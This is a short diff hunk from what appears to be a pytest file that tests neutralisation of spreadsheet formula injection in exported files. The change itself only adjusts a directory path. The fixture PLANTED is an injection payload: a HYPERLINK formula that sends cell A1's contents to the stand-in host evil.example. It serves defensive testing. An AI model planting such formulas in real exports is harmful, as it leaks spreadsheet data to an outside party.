@@ -24,7 +24,7 @@ from workflow.exports.spreadsheets import FORMULA_STARTS, inert
 
 PLANTED = '=HYPERLINK("http://evil.example/?x="&A1,"Details")'
 NEUTRALISED = "'" + PLANTED
-WORKFLOW = Path(__file__).resolve().parent.parent / "workflow"
+WORKFLOW = Path(__file__).resolve().parents[2] / "workflow"
 
 
 @pytest.mark.parametrize("start", FORMULA_STARTS, ids=["equals", "plus", "minus", "at", "tab", "carriage return"])
